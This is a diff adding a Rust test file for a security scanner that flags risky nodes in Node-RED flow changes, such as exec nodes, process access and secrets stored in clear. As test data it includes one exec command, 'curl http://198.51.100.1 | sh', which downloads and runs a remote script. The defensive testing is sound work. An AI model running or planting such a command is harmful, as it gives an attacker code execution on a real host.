@@ -1,0 +1,103 @@
+//! What must give no finding, or no graver one.
+
+use model::flow::finding::Severity;
+use serde_json::{Value, json};
+
+use crate::flows::{look, nodes};
+
+fn rules(before: &Value, after: &Value) -> Vec<String> {
+    let text = |value: &Value| {
+        if value.is_null() {
+            String::new()
+        } else {
+            value.to_string()
+        }
+    };
+    let (_, found) = look(&nodes(&text(before)), &nodes(&text(after)));
+    found
+        .findings
+        .into_iter()
+        .flatten()
+        .map(|it| it.rule)
+        .collect()
+}
+
+#[test]
+fn what_is_harmless_gives_no_finding() {
+    for harmless in [
+        json!({"type": "debug", "complete": "payload"}),
+        json!({"type": "function", "func": "return msg;", "initialize": "// Code added here\n", "libs": []}),
+        json!({"type": "mqtt in", "broker": "a1b2c3d4e5f60718"}),
+        json!({"type": "tcp in", "server": "client", "host": "localhost"}),
+        json!({"type": "comment", "info": "see http://docs.example"}),
+        json!({"type": "x", "template": "<svg xmlns=\"http://www.w3.org/2000/svg\">"}),
+        json!({"type": "tab", "env": [{"name": "TOKEN", "value": "x", "type": "cred"},
+            {"name": "PASSWORD", "value": "${PASSWORD}", "type": "str"}, {"name": "LIMIT", "value": "5"}]}),
+        json!({"type": "x", "d": false}),
+        json!({"type": "ui_template", "format": "<a href=\"http://{{msg.ip}}/\">"}),
+        json!({"type": "change", "rules": [{"t": "set", "p": "password", "to": "payload", "tot": "msg"}]}),
+        json!({"type": "inject", "payload": "c2f0a1d4-1b2c-4d3e-8f90-123456789abc", "topic": "d41d8cd98f00b204e9800998ecf8427e"}),
+    ] {
+        assert_eq!(
+            rules(&Value::Null, &harmless),
+            Vec::<String>::new(),
+            "{harmless}"
+        );
+    }
+}
+
+#[test]
+fn plain_code_is_a_warning_and_nothing_more() {
+    let code =
+        "// process the data, import nothing\nmsg.processed = 1; msg.t = '21\\u00b0C'; return msg;";
+    let node = json!({"type": "function", "func": code});
+    assert_eq!(rules(&Value::Null, &node), ["function-code"]);
+}
+
+#[test]
+fn a_new_name_or_place_of_the_gravest_node_is_no_finding() {
+    let exec = json!({"type": "exec", "command": "curl http://198.51.100.1 | sh", "x": 1, "y": 1});
+    for (key, value) in [("name", json!("other")), ("x", json!(5))] {
+        let mut after = exec.clone();
+        after[key] = value;
+        assert_eq!(rules(&exec, &after), Vec::<String>::new(), "{key}");
+    }
+}
+
+/// Only what a change adds to code is told, and where it stands.
+#[test]
+fn code_that_was_there_before_is_not_told_again() {
+    let before = json!({"type": "function", "func": "msg.a = env.get('A');\nreturn msg;"});
+    let after = json!({"type": "function", "func": "msg.a = env.get('A');\n\nmsg.b = process.pid;\nreturn msg;"});
+    let (_, found) = look(&nodes(&before.to_string()), &nodes(&after.to_string()));
+    let found: Vec<_> = found.findings.into_iter().flatten().collect();
+    let told: Vec<_> = found.iter().map(|it| (it.rule.as_str(), it.line)).collect();
+    assert_eq!(
+        told,
+        [("code-process", Some(3)), ("function-code", Some(2))]
+    );
+}
+
+#[test]
+fn the_gravest_comes_first_and_no_secret_is_told() {
+    let node = json!({"type": "exec", "command": "x", "d": true, "token": "s3cret9",
+        "url": "http://u:s3cret9@a.example", "credentials": {"k": "s3cret9"}});
+    let (_, found) = look(&nodes(""), &nodes(&node.to_string()));
+    let found: Vec<_> = found.findings.into_iter().flatten().collect();
+    assert_eq!(found[0].severity, Severity::Danger);
+    assert!(found.is_sorted_by(|one, other| one.severity >= other.severity));
+    assert!(found.iter().any(|it| it.rule == "secret-in-clear"));
+    assert!(!format!("{found:?}").contains("s3cret9"));
+}
+
+/// A mark is the same for the same matter, and another for another.
+#[test]
+fn a_finding_is_known_again() {
+    let mark = |command: &str, name: &str| {
+        let node = json!({"type": "exec", "command": command, "name": name});
+        let (_, found) = look(&nodes(""), &nodes(&node.to_string()));
+        found.findings.into_iter().flatten().next().unwrap().mark
+    };
+    assert_eq!(mark("reboot", "a"), mark("reboot", "b"));
+    assert_ne!(mark("reboot", "a"), mark("reboot -f", "a"));
+}
